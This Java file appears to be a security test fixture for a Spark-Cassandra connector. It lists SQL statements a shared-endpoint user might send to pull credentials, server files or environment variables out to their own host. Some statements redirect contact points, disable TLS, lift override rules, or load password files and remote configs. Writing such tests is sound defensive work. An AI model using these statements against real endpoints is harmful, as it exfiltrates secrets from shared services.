// SPDX-License-Identifier: Apache-2.0
package io.ringside.spark.it.secure;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * What users of a shared endpoint may try in SQL to be sent what is not theirs: credentials of the
 * application, files and variables of its JVM. Each is a session's statements.
 */
final class Tricks {
  private static final String CLASS = "io.ringside.spark.CassandraCatalog";

  private final String host;
  private final String port;
  private final String file;
  private final Map<String, List<String>> tricks = new LinkedHashMap<>();

  private Tricks(String host, String file) {
    this.host = host;
    this.port = host.substring(host.indexOf(':') + 1);
    this.file = file;
  }

  /**
   * All of them by name. A statement that fails ends its trick.
   *
   * @param host of the user, with its port
   * @param file of the server, whose content the user wants
   * @param withOptions whether this Spark has {@code WITH (…)} after a table
   */
  static Map<String, List<String>> of(String host, String file, boolean withOptions) {
    Tricks all = new Tricks(host, file);
    all.hosts();
    all.references();
    all.catalogs();
    if (withOptions) {
      all.options();
    }
    return all.tricks;
  }

  private void add(String name, String... statements) {
    tricks.put(name, List.of(statements));
  }

  /** A view with these options, and one that is read. */
  private void view(String name, String... options) {
    List<String> written = new ArrayList<>(List.of("keyspace 'secured'", "`table` 't'"));
    for (int i = 0; i < options.length; i += 2) {
      written.add("`%s` '%s'".formatted(options[i], options[i + 1]));
    }
    add(
        name,
        "CREATE TEMPORARY VIEW v USING cassandra OPTIONS (" + String.join(", ", written) + ")",
        "SELECT * FROM v");
  }

  private static String set(String name, String value) {
    return "SET `" + name + "`=" + value;
  }

  private void hosts() {
    String readSource =
        "CREATE TEMPORARY VIEW v USING cassandra OPTIONS (keyspace 'secured', `table` 't')";
    view("a view's host", "contact-points", host);
    view("a view's host, spelt otherwise", "contactPoints", host);
    view("a view's host by the other connector's name", "spark.cassandra.connection.host", host);
    view("a view's port", "port", port);
    view("a view's host and another user", "contact-points", host, "username", "x");
    view("a view without TLS", "tls.enabled", "false");
    view("a view that lifts the rule", "contact-points", host, "connection.overrides", "all");
    add("a session's host", set("spark.datasource.cassandra.contact-points", host), readSource);
    add(
        "a session's host, spelt otherwise",
        set("spark.datasource.cassandra.CONTACT_POINTS", host),
        readSource);
    add(
        "a session's host by cluster",
        set("evil/spark.cassandra.connection.host", "127.0.0.1"),
        set("evil/spark.cassandra.connection.port", port),
        set("evil/spark.cassandra.connection.ssl.enabled", "false"),
        set("spark.datasource.cassandra.cluster", "evil"),
        set("spark.datasource.cassandra.contact-points", host),
        readSource);
    add(
        "a session that lifts the rule",
        set("spark.datasource.cassandra.connection.overrides", "all"),
        set("spark.datasource.cassandra.contact-points", host),
        readSource);
    add(
        "a table of Spark's own catalog",
        "CREATE TABLE evil USING cassandra OPTIONS (keyspace 'secured', `table` 't',"
            + " `contact-points` '%s')".formatted(host),
        "SELECT * FROM evil");
  }

  private void references() {
    view("a file", "contact-points", host, "username", "x", "password.file", file);
    view("a variable", "contact-points", host, "username", "x", "password.env", "PATH");
    view(
        "a variable, spelt otherwise",
        "contact-points",
        host,
        "username",
        "x",
        "passwordEnv",
        "PATH");
    view("a URL of a driver's configuration", "driver-config", "http://" + host + "/driver.conf");
    view("a URL of a bundle", "cloud-bundle", "http://" + host + "/bundle.zip");
    view(
        "a URL of authorities",
        "contact-points",
        host,
        "tls.enabled",
        "true",
        "tls.truststore",
        "http://" + host + "/ca.pem");
    view(
        "a file as a key store",
        "contact-points",
        host,
        "tls.enabled",
        "true",
        "tls.keystore",
        file);
    view("a class", "contact-points", host, "auth-provider", "java.lang.Object");
    add(
        "a file of a session",
        set("spark.datasource.cassandra.contact-points", host),
        set("spark.datasource.cassandra.password.file", file),
        "CREATE TEMPORARY VIEW v USING cassandra OPTIONS (keyspace 'secured', `table` 't')");
  }

  private void catalogs() {
    String prefix = "spark.sql.catalog.cass.";
    String read = "SELECT * FROM cass.secured.t";
    add("a catalog's host before its first use", set(prefix + "contact-points", host), read);
    add(
        "a catalog's port before its first use",
        set(prefix + "port", "1"),
        set(prefix + "contactPoints", host),
        read);
    add(
        "a catalog's host for a write",
        set(prefix + "contact-points", host),
        "INSERT INTO cass.secured.t VALUES (100, 'x')");
    add(
        "a catalog's host for DDL",
        set(prefix + "contact-points", host),
        "SHOW TABLES IN cass.secured");
    add("a catalog's user", set(prefix + "username", "x"), read);
    add("a catalog's TLS", set(prefix + "tls.hostname-verification", "false"), read);
    add(
        "a catalog that lifts the rule",
        set(prefix + "connection.overrides", "all"),
        set(prefix + "contact-points", host),
        read);
    add(
        "a catalog of the user's",
        set("spark.sql.catalog.mine", CLASS),
        set("spark.sql.catalog.mine.contact-points", host),
        "SELECT * FROM mine.secured.t");
    add(
        "a catalog of the user's with a file",
        set("spark.sql.catalog.mine", CLASS),
        set("spark.sql.catalog.mine.contact-points", host),
        set("spark.sql.catalog.mine.username", "x"),
        set("spark.sql.catalog.mine.password.file", file),
        "SELECT * FROM mine.secured.t");
  }

  private void options() {
    add("a query's host", "SELECT * FROM cass.secured.t WITH (`contact-points` = '" + host + "')");
    add(
        "a query's file",
        "SELECT * FROM cass.secured.t WITH (username = 'x', `password.file` = '" + file + "')");
    add(
        "a query that lifts the rule",
        "SELECT * FROM cass.secured.t WITH (`contact-points` = '%s', `connection.overrides` = 'all')"
            .formatted(host));
    add(
        "an insert's host",
        "INSERT INTO cass.secured.t WITH (`contact-points` = '" + host + "') VALUES (100, 'x')");
  }
}
